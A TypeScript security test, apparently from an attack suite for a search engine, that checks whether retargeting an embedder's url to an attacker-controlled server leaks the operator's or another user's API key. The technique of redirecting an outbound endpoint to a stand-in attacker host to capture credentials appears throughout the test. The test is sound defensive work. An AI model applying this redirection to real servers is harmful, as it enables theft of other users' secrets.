/** A key that may change settings sends embedders to a server of its own. */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Attack, AttackTarget } from './attack.ts';

const OF_THE_OPERATOR = 'operator-key-0123456789';
const OF_ANOTHER_USER = 'embedder-key-0123456789';
const EMBEDDERS = '/indexes/texts/settings/embedders';
const REST = {
  source: 'rest',
  dimensions: 2,
  request: { input: ['{{text}}', '{{..}}'] },
  response: { data: ['{{embedding}}', '{{..}}'] },
};

/** Answers each text with a vector, and records the headers of requests. */
async function listen(): Promise<{ url: string; headers: string[]; close: () => void }> {
  const headers: string[] = [];
  const server = http.createServer((request, response) => {
    headers.push(JSON.stringify(request.headers));
    const parts: Buffer[] = [];
    request.on('data', (part: Buffer) => parts.push(part));
    request.on('end', () => {
      const { input } = JSON.parse(Buffer.concat(parts).toString()) as { input: readonly string[] };
      response.end(JSON.stringify({ data: input.map(() => [1, 2]) }));
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/embed`, headers, close: () => server.close() };
}

interface Task {
  readonly details: { readonly warnings?: readonly string[] };
}

/** The task once it has ended. */
async function changed({ settle }: AttackTarget, body: object, key?: string): Promise<Task> {
  return JSON.parse(await settle({ method: 'PATCH', path: EMBEDDERS, body, ...(key && { key }) }));
}

export const attack: Attack = {
  name: 'stolen secrets',
  sends:
    'embedders whose `url` is a server of the attacker, to receive keys of the operator and of other users',
  short: true,
  actions: ['search', 'settings.update'],
  serverOptions: [
    ...['--openai-api-key', OF_THE_OPERATOR],
    ...['--experimental-allowed-ip-networks', '127.0.0.1'],
    ...['--experimental-rest-embedder-max-retry-duration-seconds', '0'],
  ],
  async run(target) {
    const [home, attacker] = [await listen(), await listen()];
    const broken: string[] = [];
    const search = (embedder: string) =>
      target.send({
        path: '/indexes/texts/search',
        body: { q: 'harbour', hybrid: { embedder, semanticRatio: 1 } },
      });
    await changed(
      target,
      { shop: { ...REST, url: home.url, apiKey: OF_ANOTHER_USER, documentTemplate: 'a' } },
      target.masterKey,
    );
    const moved = await changed(target, { shop: { url: attacker.url } });
    if (moved.details.warnings?.length !== 1)
      broken.push(`the task warns of no dropped secret: ${JSON.stringify(moved.details)}`);
    await search('shop');
    await changed(target, {
      open: { source: 'openAi', url: attacker.url, dimensions: 2, documentTemplate: 'a' },
    });
    await search('open');
    if (!home.headers.some((each) => each.includes(OF_ANOTHER_USER)))
      broken.push('the server of the user did not receive its own key');
    if (attacker.headers.length === 0) broken.push('the server of the attacker was never asked');
    for (const secret of [OF_THE_OPERATOR, OF_ANOTHER_USER])
      if (attacker.headers.some((each) => each.includes(secret)))
        broken.push(`the attacker received ${secret}`);
    await changed(target, { shop: null, open: null }, target.masterKey);
    for (const { close } of [home, attacker]) close();
    return broken;
  },
};
